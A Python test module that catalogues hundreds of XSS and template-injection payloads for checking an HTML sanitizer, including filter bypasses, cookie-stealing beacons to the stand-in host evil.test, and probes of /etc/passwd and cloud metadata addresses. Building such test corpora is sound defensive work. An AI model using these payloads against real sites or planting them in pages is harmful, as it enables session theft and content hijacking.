"""Attacks on whoever opens a document, one a line, by their kind.

What a line cannot hold stands for itself: ␀ ␉ ␊ ␋ ␌ ␍ ␛ are the control characters of these names. `evil.test` is any
host of an attacker's. What an attack would run is `alert`, `console.log` or a request to `evil.test`.
"""

from __future__ import annotations

import json
from base64 import b64encode
from dataclasses import dataclass
from html import escape
from urllib.parse import quote

_CONTROLS = str.maketrans(dict(zip("␀␉␊␋␌␍␛", "\x00\t\n\x0b\x0c\r\x1b", strict=True)))


@dataclass(frozen=True)
class Attack:
    """kind: what it tries. text: as its author writes it; it serves as title too. markup: as a page's body holds it.

    source: what Hexo would be given if nothing were cleaned.
    """

    kind: str
    text: str
    markup: str
    source: str


# Markup, which stands in a page's body as it is.
MARKUP: dict[str, str] = {
    "script": r"""
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script/x>alert(1)</script␉␊ x>
<script src=//evil.test/x.js></script>
<script src="data:text/javascript,alert(1)"></script>
<script type=module>alert(1)</script>
<script type=module src=data:text/javascript,alert(1)></script>
<script type=importmap>{"imports":{"x":"data:text/javascript,alert(1)"}}</script><script type=module>import "x"</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script>alert(1)
<script␌type="text/javascript"␌>alert(1)</script>
<script>␊<!--␊alert(1)␊//--></script>
<script><!--<script></script>--></script><script>alert(1)</script>
<SCRIPT LANGUAGE=javascript1.2>alert(1)</SCRIPT>
<script charset="utf-7">+AGEAbABlAHIAdAAoADEAKQ-</script>
<script nonce=1 defer>alert(1)</script>
<div><p><script>document.write('<img src=x onerror=alert(1)>')</script>
<s%00cript>alert(1)</s%00cript>
<s␀cript>alert(1)</s␀cript><script␀>alert(1)</script␀>
＜script＞alert(1)＜/script＞
¼script¾alert(1)¼/script¾
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
<xml:script>alert(1)</xml:script><svg:script>alert(1)</svg:script>
""",
    "event handler": r"""
<img src=x onerror=alert(1)>
<img src=x oNeRrOr=alert(1)>
<img/src=x/onerror=alert(1)>
<img/src="x"onerror="alert(1)">
<img src=x ␌onerror␌=␌alert(1)>
<img src=x␊onerror␊=␊'alert(1)'>
<img src=x onerror=&#97;lert(1)>
<img src=x onerror="&#x61;&#x6c;&#x65;&#x72;&#x74;(1)">
<img src=x on␀error=alert(1) onerror␀=alert(2)>
<img src=x onerror=alert`1`>
<img src=x onerror="window['al'+'ert'](1)">
<img src=x onerror="eval(atob('YWxlcnQoMSk='))">
<img src=x onerror="\u0061lert(1)">
<img src=x onerror="new Image().src='//evil.test/beacon?'+document.cookie">
<img src=x onerror="fetch('//evil.test/fetch')">
<img src=x onerror="navigator.sendBeacon('//evil.test/ping',1)">
<img src=x onerror="new WebSocket('ws://evil.test/ws')">
<img src=x onerror="location='//evil.test/away'">
<img src=x onerror="window.open('//evil.test/window')">
<img src=x onerror="import('//evil.test/x.mjs')">
<img src=x onerror="console.log(1)">
<img src=x onerror="document.body.innerHTML='gone'">
<img src="http://zkres1.myzaker.com/202204/1_1024.jpg" onload=alert(1)>
<img src=x:x onerror=alert(1) onerror=alert(2)>
<image src=x onerror=alert(1)>
<img ""><img src=x onerror=alert(1)//">
<body onload=alert(1)>
<body onpageshow=alert(1) onhashchange=alert(2) onresize=alert(3)>
<html onmousemove=alert(1)>
<p onclick=alert(1) onmouseover=alert(2) onfocus=alert(3)>点这里</p>
<p onclick="  alert(1)">点这里</p>
<div onclick onclick=alert(1)>点这里</div>
<div ONCLICK="alert(1)" onClick>点这里</div>
<a onclick=alert(1) href="https://evil.test/">链接</a>
<a href="https://evil.test/" onpointerrawupdate=alert(1) onauxclick=alert(2)>链接</a>
<div onpointerenter=alert(1) ontouchstart=alert(2) onwheel=alert(3) ondrag=alert(4)>文</div>
<video src=x onerror=alert(1)></video>
<video onloadstart=alert(1)><source src=x onerror=alert(2)></video>
<video poster="http://zkres1.myzaker.com/1.jpg" onplay=alert(1) autoplay oncanplay=alert(2)></video>
<audio src=x onerror=alert(1) onloadstart=alert(2)>
<video><track default src=x onerror=alert(1) oncuechange=alert(2)></video>
<details open ontoggle=alert(1)>文</details>
<details ontoggle=alert(1)><summary onclick=alert(2)>文</summary></details>
<iframe src="https://v.qq.com/iframe/player.html?vid=a" onload=alert(1)></iframe>
<iframe onload=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(2)>
<button popovertarget=x>点</button><div popover id=x onbeforetoggle=alert(1)>文</div>
<keygen autofocus onfocus=alert(1)>
<marquee onstart=alert(1) onfinish=alert(2) loop=1>文</marquee>
<object onerror=alert(1) data=x></object>
<embed src=x onerror=alert(1)>
<link rel=stylesheet href=x onerror=alert(1)>
<style onload=alert(1)></style>
<form onsubmit=alert(1)><input type=submit></form>
<table background=x onmouseover=alert(1)><td onmouseover=alert(2)>文</table>
<a id=x tabindex=1 onfocus=alert(1) autofocus>文</a>
<xss autofocus tabindex=1 onfocus=alert(1)></xss>
<div style="animation-name:x" onanimationstart=alert(1)>文</div>
<p style="transition:color 1s" ontransitionend=alert(1) contenteditable oninput=alert(2)>文</p>
<zkspan onclick=alert(1) onmouseenter="alert(2)">文</zkspan>
<div class="img_box" id="id_imagebox_0" onclick="alert(1)"><img src=x></div>
<div class="img_box" id="id_imagebox_0" onclick="&#9;alert(1)&#10;">文</div>
<bdo dir=rtl onbeforecopy=alert(1) oncopy=alert(2) onselectstart=alert(3)>文</bdo>
<ul><li onscrollend=alert(1) onscroll=alert(2)>文</ul>
<dialog open onclose=alert(1) oncancel=alert(2)>文</dialog>
<p on=alert(1) onx=alert(2) on-click=alert(3) on:click=alert(4) @click=alert(5) v-on:click=alert(6)>文</p>
<p "onclick=alert(1)" 'onclick=alert(2)' `onclick=alert(3)`>文</p>
<p/onclick=alert(1)/onmouseover=alert(2)>文</p>
<p a=b/onclick=alert(1) c='d'onmouseover=alert(2)>文</p>
<p =onclick=alert(1) ==onmouseover=alert(2)>文</p>
""",
    "scheme": r"""
<a href="javascript:alert(1)">链接</a>
<a href=JaVaScRiPt:alert(1)>链接</a>
<a href=" javascript:alert(1)">链接</a>
<a href="␉␊␍javascript:alert(1)">链接</a>
<a href="java␉script:alert(1)">链接</a>
<a href="java␊script:alert(1)">链接</a>
<a href="java␍script:alert(1)">链接</a>
<a href="java␀script:alert(1)">链接</a>
<a href="&#1;&#2;&#31;javascript:alert(1)">链接</a>
<a href="java&#9;script:alert(1)">链接</a>
<a href="java&Tab;script&colon;alert&lpar;1&rpar;">链接</a>
<a href="java&NewLine;script:alert(1)">链接</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">链接</a>
<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">链接</a>
<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099ript:alert(1)">链接</a>
<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">链接</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)">链接</a>
<a href="javascript&#58;alert(1)">链接</a>
<a href="javascript&#x3a;alert(1)">链接</a>
<a href="javascript:alert&#40;1&#41;">链接</a>
<a href="javascript://evil.test/%0aalert(1)">链接</a>
<a href="javascript:/*--></title></style></textarea></script><svg onload='alert(1)'>*/alert(1)">链接</a>
<a href="javascript&amp;colon;alert(1)">链接</a>
<a href="javascript%3Aalert(1)">链接</a>
<a href="%6aavascript:alert(1)">链接</a>
<a href="java\script:alert(1)">链接</a>
<a href="javascript：alert(1)">链接</a>
<a href="ｊavascript:alert(1)">链接</a>
<a href="jaVaſcript:alert(1)">链接</a>
<a href="&#xA0;javascript:alert(1)">链接</a>
<a href="&#x3000;javascript:alert(1)">链接</a>
<a href="&#xFEFF;javascript:alert(1)">链接</a>
<a href="&#x2028;javascript:alert(1)">链接</a>
<a href="&#x85;javascript:alert(1)">链接</a>
<a href="view-source:javascript:alert(1)">链接</a>
<a href="feed:javascript:alert(1)">链接</a>
<a href="jar:javascript:alert(1)!/">链接</a>
<a href="vbscript:msgbox(1)">链接</a>
<a href="livescript:alert(1)">链接</a>
<a href="mocha:alert(1)">链接</a>
<a href="data:text/html,<script>alert(1)</script>">链接</a>
<a href="DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" target=_self>链接</a>
<a href="da␉ta:text/html,<script>alert(1)</script>">链接</a>
<a href="blob:https://evil.test/1">链接</a>
<a href="file:///etc/passwd">链接</a>
<a href="intent://evil.test/#Intent;scheme=http;end">链接</a>
<a href="ms-msdt:/id PCWDiagnostic">链接</a>
<a href="steam://run/1">链接</a>
<a href="#" xlink:href="javascript:alert(1)">链接</a>
<a href="https://a.example/" href="javascript:alert(1)">链接</a>
<a href=javascript:alert(1)>链接
<a href="?javascript:alert(1)" name=x>链接</a>
<a href="javascript:'<script>alert(1)</script>'" target="evil">链接</a>
<a href="https://evil.test/" ping="https://evil.test/ping">链接</a>
<area href=javascript:alert(1) shape=default>
<map name=m><area shape=rect coords=0,0,999,999 href=javascript:alert(1)></map><img usemap=#m src=//evil.test/1.png>
<img ismap longdesc=javascript:alert(1) lowsrc=javascript:alert(1) dynsrc=javascript:alert(1) src=x>
<blockquote cite="javascript:alert(1)">文</blockquote>
<q cite="java&#10;script:alert(1)">文</q>
<del cite=javascript:alert(1)>文</del><ins cite=javascript:alert(1)>文</ins>
<form action=javascript:alert(1)><button>点</button></form>
<button formaction=javascript:alert(1) form=f>点</button><form id=f></form>
<input type=image src=javascript:alert(1) formaction=javascript:alert(1)>
<isindex action=javascript:alert(1) type=submit value=点>
<video src=javascript:alert(1) poster=javascript:alert(1)></video>
<audio src="data:text/html,<script>alert(1)</script>"></audio>
<video><source src=javascript:alert(1)><track src=javascript:alert(1)></video>
<table background="javascript:alert(1)"><td background="javascript:alert(1)">文</table>
<body background="javascript:alert(1)">
<bgsound src="javascript:alert(1)">
<layer src="javascript:alert(1)"></layer><ilayer src="javascript:alert(1)"></ilayer>
<div src=javascript:alert(1) href=javascript:alert(1) data=javascript:alert(1)>文</div>
<link rel=stylesheet href="javascript:alert(1)"><link rel=import href="data:text/html,<script>alert(1)</script>">
""",
    "picture": r"""
<img src="javascript:alert(1)">
<img src="jav&#x0A;ascript:alert(1);">
<img src=vbscript:msgbox(1)>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">
<img src="data:text/html,<script>alert(1)</script>">
<img srcset="javascript:alert(1) 1x, data:text/html,<script>alert(1)</script> 2x">
<img srcset="https://evil.test/1.png&quot; onerror=alert(1) 2x">
<img srcset=",,,//evil.test/set.png 1x,javascript:alert(1) 9x" sizes="100vw" src=x>
<img data-original="javascript:alert(1)" src="javascript:alert(2)">
<img data-original="https://evil.test/1.jpg&quot; onerror=&quot;alert(1)" src=x>
<img data-original="https://evil.test/1.jpg' onerror='alert(1)">
<img data-original="https://evil.test/1.jpg`onerror=`alert(1)">
<img data-original="https://evil.test/1.jpg&gt;&lt;script&gt;alert(1)&lt;/script&gt;">
<img data-original="https://evil.test/1.jpg)](javascript:alert(1))![x](x">
<img data-original="https://evil.test/1.jpg&#10;&#10;[x](javascript:alert(1))">
<img data-original="https://evil.test/{{ 'tpl' ~ 'ran' }}.jpg">
<img data-original="https://evil.test/%7B%7B'tpl'~'ran'%7D%7D.jpg">
<img data-original="https://evil.test/1.jpg\&quot;onerror=alert(1)">
<img data-original="http://zkres1.myzaker.com/1.jpg" data-gif-url="javascript:alert(1)">
<img data-original="http://zkres1.myzaker.com/1.jpg" data-gif-url="data:text/html,<script>alert(1)</script>">
<img data-original="http://zkres1.myzaker.com/1.jpg" data-gif-url="x&quot; onload=&quot;alert(1)">
<img data-original="http://zkres1.myzaker.com/1.jpg" data-height="1&quot;onload=&quot;alert(1)" data-width=<svg/onload=>
<img data-src="http://evil.test/1.jpg" data-lazy-src=javascript:alert(1) data-actualsrc=javascript:alert(1)>
<img src="//evil.test\@zkres1.myzaker.com/1.jpg" referrerpolicy=unsafe-url crossorigin=use-credentials>
<img src="https://user:pass@evil.test/1.png">
<img src="http://127.0.0.1:9/private.png"><img src="http://169.254.169.254/latest/meta-data">
<img src="file:///etc/passwd"><img src="\\evil.test\share\1.png">
<img alt='"><script>alert(1)</script>' src="http://zkres1.myzaker.com/1.jpg">
<img alt="](x) <img src=x onerror=alert(1)> ![" src="http://zkres1.myzaker.com/1.jpg">
<img alt="x](javascript:alert(1)) [x" title='" onload="alert(1)' src="http://zkres1.myzaker.com/1.jpg">
<img alt="&#10;&#10;<script>alert(1)</script>&#10;&#10;" src="http://zkres1.myzaker.com/1.jpg">
<picture><source srcset=javascript:alert(1)><source srcset=//evil.test/p.webp onerror=alert(1)><img></picture>
<input type=image src=//evil.test/input.png onerror=alert(1)>
<video poster="https://evil.test/p.png&quot; onerror=&quot;alert(1)" src=//evil.test/v.mp4 autoplay></video>
<svg><image href=//evil.test/svg.png onerror=alert(1)></svg>
<img src=x style="background:url(//evil.test/bg.png)" fetchpriority=high loading=eager onloadend=alert(1)>
""",
    "svg": r"""
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg␌onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script>alert&lpar;1&rpar;</script>
<svg><script href=data:text/javascript,alert(1) />
<svg><script xlink:href="data:,alert(1)"></script></svg>
<svg><script/x=">"&gt;alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>文</text></a></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>文</text></a></svg>
<svg><a><set attributeName=xlink:href to=javascript:alert(1) /><text y=20>文</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><animatetransform onbegin=alert(1) attributeName=transform>
<svg><set onbegin=alert(1) attributename=x>
<svg><discard onbegin=alert(1)>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><a href='javascript:x'/></svg>#x">
<svg><use href="//evil.test/x.svg#x"/></svg>
<svg><feImage href="//evil.test/fe.png"></feImage><filter id=f><feImage href="//evil.test/f.png"/></filter>
<svg><style>@import '//evil.test/svg.css';</style></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><p onclick=alert(1)>文</p><img src=x onerror=alert(2)></desc></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><foreignobject><body xmlns="http://www.w3.org/1999/xhtml" onload=alert(1)></foreignobject></svg>
<svg xmlns="http://www.w3.org/2000/svg"><handler type="text/javascript" ev:event=load>alert(1)</handler></svg>
<svg><image x=0 xlink:href=x onerror=alert(1)></svg>
<svg><p><style><!--</style><img title="--></style><img src=x onerror=alert(1)>"></svg>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<svg><g onload=alert(1)></g><rect width=9 height=9 onclick=alert(2) /></svg>
<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>
""",
    "math": r"""
<math href="javascript:alert(1)">文</math>
<math><mi xlink:href="javascript:alert(1)">文</mi></math>
<math><maction actiontype="statusline#//evil.test" xlink:href="javascript:alert(1)">文</maction></math>
<math><mtext><script>alert(1)</script></mtext></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math><annotation-xml><svg><script>alert(1)</script></svg></annotation-xml></math>
<math><brute xlink:href=javascript:alert(1)>文
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><x onclick=alert(1) href=javascript:alert(2)>文</x></math>
<math><mstyle mathbackground="url(//evil.test/m)">文</mstyle></math>
""",
    "mutation": r"""
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)></style>
<style><p title="</style><img src=x onerror=alert(1)>">
<title><p title="</title><img src=x onerror=alert(1)>">
<textarea><p title="</textarea><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<listing>␊<p title="</listing><img src=x onerror=alert(1)>">
<pre>␊␊&lt;script&gt;alert(1)&lt;/script&gt;</pre>
<plaintext><script>alert(1)</script>
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<noframes><p title="</noframes><img src=x onerror=alert(1)>">
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<div><template shadowrootmode=closed><script>alert(1)</script></template></div>
<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><a title="</style><img src onerror=alert(1)>">
<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>
<math><mtext><malignmark><style><img src=x onerror=alert(1)></style></malignmark></mtext></math>
<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<form id=a><div></form><form id=b><input name=c></div><img src=x onerror=alert(1)></form>
<svg><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
<![CDATA[<img src=x onerror=alert(1)>]]>
<math><![CDATA[</math><img src=x onerror=alert(1)>]]></math>
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<!-- <!-- --> <img src=x onerror=alert(1)> -->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!-- comment --␊><img src=x onerror=alert(1)>-->
<? foo="><script>alert(1)</script>">
<! foo="><script>alert(1)</script>">
</ foo="><script>alert(1)</script>">
<% foo><x foo="%><script>alert(1)</script>">
<?php echo '<img src=x onerror=alert(1)>' ?>
<!DOCTYPE x [<!ENTITY e "<script>alert(1)</script>">]>&e;
<table><td><svg><desc><td></desc></svg></td><img src=x onerror=alert(1)></table>
<table><tr><script>alert(1)</script><td><style></table><img src=x onerror=alert(1)></style></table>
<table><a href="javascript:alert(1)"><tr><td>文<a href=javascript:alert(2)></table>文
<a href=x><table><a href=javascript:alert(1)>文</table></a>
<p><object><p><p onclick=alert(1)>文</object></p>
<b><p><i></b><img src=x onerror=alert(1)></i></p><b><script>alert(1)</b></script>
<select><option><style></option></select><b><img src=x onerror=alert(1)></style></option>
<select><template><img src=x onerror=alert(1)></template><script>alert(1)</script></select>
<frameset><frame src=javascript:alert(1)></frameset><noframes><img src=x onerror=alert(1)></noframes>
<caption><svg><title><caption><img src=x onerror=alert(1)></title></svg></caption>
<nobr><nobr><nobr><img src=x onerror=alert(1)><font><font><font><table><nobr><script>alert(1)</script>
<img title="&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;" src="http://zkres1.myzaker.com/1.jpg">
<p title="`&lt;img src=x onerror=alert(1)&gt;">文</p>
<x/><title>&lt;/title&gt;&lt;img src=1 onerror=alert(1)&gt;</title>
<math></p><style><!--</style><img src/onerror=alert(1)>--></style></math>
<h1><h2><button><h3><button><a><a><img src=x onerror=alert(1)></a></button></h1>
<ruby><rt><rp><rtc><svg><style>&lt;img src=x onerror=alert(1)&gt;</style></rtc></rp></rt></ruby>
<dd><dt><li><dd><details><summary><details><summary><svg><p><img src=x onerror=alert(1)></svg>
</div></div></div></body></html><script>alert(1)</script>
</p></div></article></section></main><img src=x onerror=alert(1)>
<head><base href=//evil.test/></head><body onload=alert(1)><p>文</p></body>
<applet><b><table></applet><img src=x onerror=alert(1)>
<image><img><image onerror=alert(1) src=x><isindex prompt="<img src=x onerror=alert(1)>">
""",
    "template braces": r"""
<p>{{ 'tpl' ~ 'ran' }}</p>
<p>{{{ 'tpl' ~ 'ran' }}}</p>
<p>{{␊'tpl' ~␊'ran'␊}}</p>
<p>&#123;&#123; 'tpl' ~ 'ran' &#125;&#125;</p>
<p>&lbrace;&lcub; 'tpl' ~ 'ran' &rcub;&rbrace;</p>
<p>&amp;#123;&amp;#123; 'tpl' ~ 'ran' &amp;#125;&amp;#125;</p>
<p>{<b></b>{ 'tpl' ~ 'ran' }<b></b>}</p>
<p>{<!-- -->{ 'tpl' ~ 'ran' }<!-- -->}</p>
<p>{<script></script>{ 'tpl' ~ 'ran' }<script></script>}</p>
<p>{{ (1).constructor.constructor("return 'tpl' + 'ran'")() }}</p>
<p>{{ range.constructor("return process.version.replace(/.*/,'tpl'+'ran')")() }}</p>
<p>{{ '<script>alert(1)</script>' | safe }}</p>
<p>{{ "\x3cscript\x3ealert(1)\x3c/script\x3e" }}</p>
<p>{% set x = 'tpl' ~ 'ran' %}{{ x }}</p>
<p>{% if true %}tpl{% endif %}{% if true %}ran{% endif %}</p>
<p>{% raw %}<img src=x onerror=alert(1)>{% endraw %}</p>
<p>{% raw %}&lt;img src=x onerror=alert(1)&gt;{% endraw %}</p>
<p>{% endraw %}{{ 'tpl' ~ 'ran' }}{% raw %}</p>
<p>{% include "/etc/passwd" %}</p>
<p>{% import "x" as x %}{% extends "x" %}{% block x %}tpl{% endblock %}</p>
<p>{% for c in ['tpl'] %}{{ c }}ran{% endfor %}</p>
<p>{% codeblock %}&lt;/code&gt;&lt;script&gt;alert(1)&lt;/script&gt;{% endcodeblock %}</p>
<p>{% iframe https://evil.test/frame 1 1 %}</p>
<p>{% jsfiddle x %}{% gist x %}{% youtube x %}{% vimeo x %}</p>
<p>{% img x "onerror=alert(1)" %}{% img /x.png '"x" onerror="alert(1)' %}</p>
<p>{% link x javascript:alert(1) true 'x" onclick="alert(1)' %}</p>
<p>{% blockquote x javascript:alert(1) %}x{% endblockquote %}{% pullquote x %}x{% endpullquote %}</p>
<p>{% include_code x.js %}{% asset_path x %}{% post_path x %}{% post_link x %}</p>
<p>{# {{ 'tpl' ~ 'ran' }} #}文{#</p>
<p>{{ 文 }} {% 文 %} {# 文 #} {{</p>
<p>{% 没有这个标签 %}</p>
<p>{{ 'tpl' ~ 'ran'</p><p>}}</p>
<p title="{{ 'tpl' ~ 'ran' }}" class="{% raw %}">文</p>
<p data-x="{{ 'tpl' ~ 'ran' }}" lang="{{ 'tpl' ~ 'ran' }}">文</p>
<a href="https://a.example/{{ 'tpl' ~ 'ran' }}">文</a>
<a href="https://a.example/%7B%7B'tpl'~'ran'%7D%7D" title="{{ 'tpl' ~ 'ran' }}">文</a>
<div style="width: {{ 'tpl' ~ 'ran' }}">文</div>
<code>{{ 'tpl' ~ 'ran' }}</code><pre>{% raw %}␊{{ 'tpl' ~ 'ran' }}␊{% endraw %}</pre>
<code>`</code>{% raw %}{% endraw %}<code>`</code>{{ 'tpl' ~ 'ran' }}
<p>&lt;!--swig&#xFFFC;0--&gt;</p>
<pre>&lt;!--swig&#xFFFC;0--&gt;</pre>
<code>&lt;!--swig&#xFFFC;0--&gt;</code>
<p>&lt;!--code&#xFFFC;0--&gt;</p>
<pre>文␊&lt;!--code&#xFFFC;0--&gt;</pre>
<p>&lt;!--comment&#xFFFC;0--&gt;</p>
<p>&amp;lt;!--swig&#xFFFC;0--&amp;gt;</p>
<p title="<!--swig&#xFFFC;0-->">文</p><p title="<!--comment&#xFFFC;7-->" lang="<!--code&#xFFFC;7-->">文</p>
<a href="https://a.example/&lt;!--swig&#xFFFC;0--&gt;">文</a>
<p>&lt;<b></b>!--swig&#xFFFC;0--&gt;</p><p>&lt;!--swi<script></script>g&#xFFFC;0--&gt;</p>
<p>&lt;hexoPostRenderCodeBlock&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;/hexoPostRenderCodeBlock&gt;</p>
<pre>&lt;hexoPostRenderCodeBlock&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;/hexoPostRenderCodeBlock&gt;</pre>
<hexoPostRenderCodeBlock><script>alert(1)</script></hexoPostRenderCodeBlock>
<escape>{{ 'tpl' ~ 'ran' }}</escape>
<p>&lt;!-- more --&gt;</p><!-- more --><p title="<!-- more -->">文</p>
""",
    "meta, base, link": r"""
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0; url=//evil.test/refresh">
<META HTTP-EQUIV="Refresh" CONTENT="0;URL=data:text/html,<script>alert(1)</script>">
<meta http-equiv="Set-Cookie" content="x=y"><meta http-equiv="Link" content="<//evil.test/x.css>; rel=stylesheet">
<meta http-equiv=Content-Security-Policy content="default-src *; report-uri //evil.test/csp">
<meta charset=utf-7><meta name=referrer content=unsafe-url>
<base href="//evil.test/"><img src=relative.png><a href=relative>文</a>
<base href="javascript:/a/-alert(1)//"><a href=../x>文</a>
<base target="_top"><a href=x target="a&#10;&lt;b">文</a>
<link rel=stylesheet href=//evil.test/x.css>
<link rel=preload as=script href=//evil.test/preload.js>
<link rel="prefetch prerender preconnect dns-prefetch" href=//evil.test/pre>
<link rel=icon href=//evil.test/icon.png><link rel=manifest href=//evil.test/manifest.json>
<link rel=modulepreload href=//evil.test/m.mjs>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["//evil.test/rule"]}]}</script>
""",
    "css": r"""
<style>@import '//evil.test/x.css';</style>
<style>body{background:url(//evil.test/style.png)}</style>
<style>@font-face{font-family:x;src:url(//evil.test/font)}p{font-family:x}</style>
<style>p{width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(//evil.test/x.xml#x)}</style>
<style></style><img src=x onerror=alert(1)><style></style>
<style>*{animation:x 1s}@keyframes x{}</style><p onanimationend=alert(1)>文</p>
<p style="background:url(//evil.test/bg.png)">文</p>
<p style="background:url('javascript:alert(1)')">文</p>
<p style="background-image:u\72l(//evil.test/escaped.png)">文</p>
<p style="background:\75\72\6c(//evil.test/hex.png)">文</p>
<p style="background/**/:/**/url(//evil.test/comment.png)">文</p>
<p style="color:red;/*;*/background:url(//evil.test/c2.png)">文</p>
<p style="background-image:image-set('//evil.test/set.png' 1x)">文</p>
<p style="background-image:-webkit-image-set('//evil.test/set2.png' 1x)">文</p>
<p style="background:cross-fade(url(//evil.test/cf.png),url(//evil.test/cf2.png),50%)">文</p>
<p style="list-style:url(//evil.test/list.png);display:list-item">文</p>
<p style="list-style-image:url(//evil.test/list2.png);display:list-item">文</p>
<p style="cursor:url(//evil.test/cursor.cur),auto">文</p>
<p style="border-image:url(//evil.test/border.png) 9;border:9px solid">文</p>
<p style="content:url(//evil.test/content.png)">文</p>
<p style="mask-image:url(//evil.test/mask.svg#x);-webkit-mask:url(//evil.test/mask.png)">文</p>
<p style="filter:url(//evil.test/filter.svg#x);clip-path:url(//evil.test/clip.svg#x)">文</p>
<p style="shape-outside:url(//evil.test/shape.png);float:left">文</p>
<p style="--x:url(//evil.test/var.png);background:var(--x)">文</p>
<p style="background:src('//evil.test/src.png')">文</p>
<p style="width:expression(alert(1))">文</p>
<p style="xss:expr/*XSS*/ession(alert(1))">文</p>
<p style="width:e\xpression(alert(1));width:expre&#x73;sion(alert(1))">文</p>
<p style="behavior:url(//evil.test/x.htc)">文</p>
<p style="-moz-binding:url('//evil.test/x.xml#x')">文</p>
<p style="-o-link:'javascript:alert(1)';-o-link-source:current">文</p>
<p style="@import '//evil.test/attr.css'">文</p>
<p style="color:red}body{background:url(//evil.test/close.png)">文</p>
<p style='color:red" onclick="alert(1)'>文</p>
<p style="font-family:'x&quot; onclick=&quot;alert(1)'">文</p>
<p style="position:fixed;top:0;left:0;width:9999px;height:9999px;background:&#117;rl(//evil.test/fixed.png)">文</p>
<p style="background:url␀(//evil.test/nul.png);back␀ground:url(//evil.test/nul2.png)">文</p>
<p style="background:URL(&#x2f;/evil.test/upper.png)">文</p>
<p style="background:url(//evil.test/open.png">文</p>
<font style="background:url(//evil.test/font.png)" color="x;background:url(//evil.test/color.png)">文</font>
<table style="background:url(//evil.test/table.png)" background=//evil.test/attribute.png><td>文</table>
<link rel=stylesheet href="data:text/css,p{background:url(//evil.test/data.png)}">
<style type="text/css" media=all>p::before{content:url(//evil.test/before.png)}
<svg><style>*{fill:url(//evil.test/fill.svg#x);background:url(//evil.test/svg-style.png)}</style></svg><p>文</p>
""",
    "frame": r"""
<iframe src=javascript:alert(1)></iframe>
<iframe src="java␊script:alert(1)"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe srcdoc="<script>top.location='//evil.test/'</script>" src="https://v.qq.com/x"></iframe>
<iframe src="https://v.qq.com/x" srcdoc="<script>parent.alert(1)</script>" sandbox="allow-scripts allow-top-navigation">
<iframe src=//evil.test/frame></iframe>
<iframe src="https://v.qq.com.evil.test/x"></iframe>
<iframe src="https://evil.test/v.qq.com/"></iframe>
<iframe src="https://evil.test?v.qq.com"></iframe>
<iframe src="https://evil.test#v.qq.com/"></iframe>
<iframe src="https://v.qq.com@evil.test/x"></iframe>
<iframe src="https://v.qq.com:x@evil.test/x"></iframe>
<iframe src="https://evil.test\@v.qq.com/x"></iframe>
<iframe src="https://evil.test\.v.qq.com/x"></iframe>
<iframe src="//evil.test\v.qq.com/"></iframe>
